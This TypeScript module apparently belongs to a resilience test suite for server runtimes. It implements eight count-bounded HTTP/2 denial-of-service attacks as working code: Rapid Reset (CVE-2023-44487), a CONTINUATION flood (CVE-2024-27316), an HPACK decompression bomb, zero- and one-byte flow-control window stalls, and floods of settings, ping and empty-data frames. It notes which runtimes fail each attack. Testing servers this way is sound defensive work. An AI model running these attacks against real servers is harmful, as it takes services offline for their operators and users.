// What can be done to a server by HTTP/2, a row an attack, each bounded in count. In: a place. Out: what was done, when it has been done.
import {
  type Frame,
  flags,
  frame,
  frameTypes,
  headerBlock,
  initialWindow,
  openHttp2,
  type RawHttp2,
  requestFrame,
  settings,
  windowUpdate,
} from "../support/http2-raw.ts";

export interface Target {
  readonly host: string;
  readonly port: number;
  readonly servername: string;
  /** A body of some 300 kB. */
  readonly bigPath: string;
}

export interface Attack {
  readonly name: string;
  /** Runtimes whose HTTP/2 does not bear it. */
  readonly hurts?: readonly string[];
  /** Resolves when all was sent; what it holds open stays so until `end`. */
  run(target: Target): Promise<UnderWay>;
}

export interface UnderWay {
  /** What shows that it reached its aim: frames that the server answered with, connections that it closed, or what it took in. */
  readonly effect: () => number;
  end(): void;
}

export const attacks: readonly Attack[] = [
  { name: "20,000 requests, each taken back at once (CVE-2023-44487)", hurts: ["deno"], run: rapidReset },
  { name: "headers that never end (CONTINUATION, CVE-2024-27316)", hurts: ["deno"], run: continuation },
  { name: "headers that unpack to a thousand times their length", run: headerBomb },
  {
    name: "10,000 answers asked for with windows of nothing",
    hurts: ["deno"],
    run: (target) => windows(target, 0),
  },
  { name: "1,000 answers read byte by byte", hurts: ["deno"], run: oneByteWindows },
  {
    name: "a flood of settings whose answers nobody reads",
    run: (target) => flood(target, settings()),
  },
  {
    name: "a flood of pings whose answers nobody reads",
    run: (target) => flood(target, frame(frameTypes.ping, 0, 0, Buffer.alloc(8))),
  },
  {
    name: "a flood of empty data on a request that never ends",
    run: emptyData,
  },
];

function underWay(connections: readonly RawHttp2[]): UnderWay {
  return {
    effect: () => connections.reduce((sum, one) => sum + one.heard() + (one.closed() ? 1 : 0), 0),
    end() {
      for (const one of connections) one.end();
    },
  };
}

async function many(count: number, open: (at: number) => Promise<RawHttp2>): Promise<readonly RawHttp2[]> {
  const opened: RawHttp2[] = [];
  for (let at = 0; at < count; at += 20)
    opened.push(
      ...(await Promise.all(Array.from({ length: Math.min(20, count - at) }, (_none, by) => open(at + by)))),
    );
  return opened;
}

async function rapidReset(target: Target): Promise<UnderWay> {
  const cancel = Buffer.from([0, 0, 0, 8]);
  const connections = await many(4, () => openHttp2(target, settings(), () => undefined));
  for (const one of connections)
    for (let sent = 0; sent < 5_000 && !one.closed(); sent += 100) {
      const frames = Array.from({ length: 100 }, (_none, at) => {
        const stream = 2 * (sent + at) + 1;
        const request = requestFrame(stream, target.servername, target.bigPath);
        return [request, frame(frameTypes.reset, 0, stream, cancel)];
      });
      await one.send(...frames.flat());
    }
  return underWay(connections);
}

async function continuation(target: Target): Promise<UnderWay> {
  const one = await openHttp2(target, settings(), () => undefined);
  const block = headerBlock([["x-filler", "x".repeat(16_000)]]);
  await one.send(frame(frameTypes.headers, flags.endStream, 1, block));
  for (let sent = 0; sent < 8_000 && !one.closed(); sent++)
    await one.send(frame(frameTypes.continuation, 0, 1, block));
  return underWay([one]);
}

/** One entry of 4 kB in the dynamic table, then 12,000 bytes that each name it (RFC 7541, 7.3). */
async function headerBomb(target: Target): Promise<UnderWay> {
  const connections = await many(10, () => openHttp2(target, settings(), () => undefined));
  const value = Buffer.from("x".repeat(3_900));
  const entry = Buffer.concat([
    Buffer.from([0x40, 1]),
    Buffer.from("a"),
    Buffer.from([0x7f, 0xbd, 0x1d]),
    value,
  ]);
  const known = headerBlock([
    [":method", "GET"],
    [":scheme", "https"],
    [":authority", target.servername],
    [":path", "/"],
  ]);
  for (const one of connections)
    for (let request = 0; request < 20 && !one.closed(); request++) {
      const block = Buffer.concat([known, entry, Buffer.alloc(12_000, 0xbe)]);
      const first = frame(
        frameTypes.headers,
        flags.endStream | flags.endHeaders,
        2 * request + 1,
        block.subarray(0, 16_384),
      );
      await one.send(first);
    }
  return underWay(connections);
}

async function windows(
  target: Target,
  size: number,
  onFrame: ((one: () => RawHttp2 | null, frame: Frame) => void) | null = null,
  [connections, streams] = [100, 100],
): Promise<UnderWay> {
  const opened = await many(connections, async () => {
    let self: RawHttp2 | null = null;
    const hear = (got: Frame): void => onFrame?.(() => self, got);
    self = await openHttp2(target, settings([initialWindow, size]), hear);
    const requests = Array.from({ length: streams }, (_none, at) =>
      requestFrame(2 * at + 1, target.servername, target.bigPath),
    );
    await self.send(...requests);
    return self;
  });
  return underWay(opened);
}

function oneByteWindows(target: Target): Promise<UnderWay> {
  const giveOne = (self: () => RawHttp2 | null, { type, stream, payload }: Frame): void => {
    if (type === frameTypes.data && payload.length > 0) void self()?.send(windowUpdate(stream, 1));
  };
  return windows(target, 1, giveOne, [20, 50]);
}

async function flood(target: Target, bytes: Buffer): Promise<UnderWay> {
  const connections = await many(10, () => openHttp2(target, settings(), null));
  const thousand = Buffer.concat(Array.from({ length: 1_000 }, () => bytes));
  let taken = 0;
  const pour = async (one: RawHttp2): Promise<void> => {
    // A server that reads no more while its answers are not taken has won: then nothing drains.
    for (let sent = 0; sent < 100 && !one.closed(); sent++) {
      const stuck = new Promise<"stuck">((done) => setTimeout(done, 500, "stuck"));
      if ((await Promise.race([one.send(thousand), stuck])) === "stuck") return;
      taken++;
    }
  };
  await Promise.all(connections.map(pour));
  return { ...underWay(connections), effect: () => taken };
}

async function emptyData(target: Target): Promise<UnderWay> {
  const one = await openHttp2(target, settings(), () => undefined);
  const block = headerBlock([
    [":method", "POST"],
    [":scheme", "https"],
    [":authority", target.servername],
    [":path", "/"],
  ]);
  await one.send(frame(frameTypes.headers, flags.endHeaders, 1, block));
  const thousand = Buffer.concat(Array.from({ length: 1_000 }, () => frame(frameTypes.data, 0, 1)));
  for (let sent = 0; sent < 200 && !one.closed(); sent++) await one.send(thousand);
  return underWay([one]);
}
